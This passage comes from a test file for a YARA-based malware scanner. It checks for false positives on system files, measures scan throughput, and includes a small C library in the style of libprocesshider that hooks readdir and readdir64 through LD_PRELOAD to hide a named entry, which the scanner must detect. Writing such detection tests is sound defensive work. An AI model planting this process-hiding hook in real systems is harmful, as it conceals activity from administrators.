      lines.push(`  ${name}: ${r.files} files, ${(r.bytes / 1e6).toFixed(1)} MB, ${Object.keys(r.matched).length} matched${r.unreadable ? `, ${r.unreadable} unreadable` : ''}`);
    }
    console.log(`system files: ${total} scanned, ${Object.keys(falsePositives).length} false positives\n${lines.join('\n')}`);
    expect(total).toBeGreaterThan(200);
    expect(falsePositives).toEqual({});
  });

  it('scans 200 MB of random bytes (throughput printed, not asserted)', { timeout: 120_000 }, () => {
    const data = randomBytes(200 << 20);
    const timed = (scanIt: () => YaraRuleMatch[][]): string => {
      const started = process.hrtime.bigint();
      expect(scanIt().flat()).toEqual([]);
      const seconds = Number(process.hrtime.bigint() - started) / 1e9;
      return `${seconds.toFixed(2)} s, ${(200 / seconds).toFixed(0)} MB/s`;
    };
    const whole = timed(() => [rules.scan(data)]);
    // As 1 MB files: every rule applies (most stop at a size a script or a config can have).
    const files = timed(() => Array.from({ length: 200 }, (_, i) => rules.scan(data.subarray(i << 20, (i << 20) + 1_000_000))));
    console.log(`200 MB of random bytes with ${ruleCount} rules: ${whole} as one buffer; ${files} as 200 files of 1 MB`);
  });
});

describe('a process-hiding library built by the system C compiler', () => {
  const cc = ((): string | null => {
    try {
      return execFileSync('sh', ['-c', 'command -v cc'], { encoding: 'utf8' }).trim() || null;
    } catch {
      return null;
    }
  })();

  // libprocesshider's shape: readdir and readdir64 wrapped, the real ones found with dlsym(RTLD_NEXT).
  const source = `#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdio.h>
#include <string.h>
static const char *hidden = "evil";
static int name_of(DIR *d, struct dirent *e, char *buf, size_t n) {
  char path[64]; snprintf(path, sizeof path, "/proc/self/fd/%d", dirfd(d)); (void)e; (void)buf; (void)n;
  return 0;
}
#define HOOK(type, fn) \\
  type *fn(DIR *d) { \\
    static type *(*real)(DIR *) = NULL; \\
    if (!real) real = dlsym(RTLD_NEXT, #fn); \\
    type *e; char buf[256]; \\
    while ((e = real(d)) && name_of(d, (struct dirent *)e, buf, sizeof buf) == 0 && strcmp(e->d_name, hidden) == 0) {} \\
    return e; \\
  }
HOOK(struct dirent, readdir)
HOOK(struct dirent64, readdir64)
`;

  it.skipIf(!cc)('is found as Rootkit_LDPreload_Readdir_Hook; the same code without the hooks is not', () => {
    writeFileSync(join(dir, 'hider.c'), source);
    execFileSync(cc!, ['-shared', '-fPIC', '-O1', '-o', join(dir, 'libhider.so'), join(dir, 'hider.c'), '-ldl']);
    expect(rules.scanFile(join(dir, 'libhider.so')).map((m) => m.ruleIdentifier)).toEqual(['Rootkit_LDPreload_Readdir_Hook']);
    writeFileSync(join(dir, 'plain.c'), source.replace(/^HOOK\(struct dirent, readdir\)\nHOOK\(struct dirent64, readdir64\)\n/m, 'HOOK(struct dirent, next_entry)\n'));
    execFileSync(cc!, ['-shared', '-fPIC', '-O1', '-o', join(dir, 'libplain.so'), join(dir, 'plain.c'), '-ldl']);
    expect(rules.scanFile(join(dir, 'libplain.so'))).toEqual([]);
  });
});
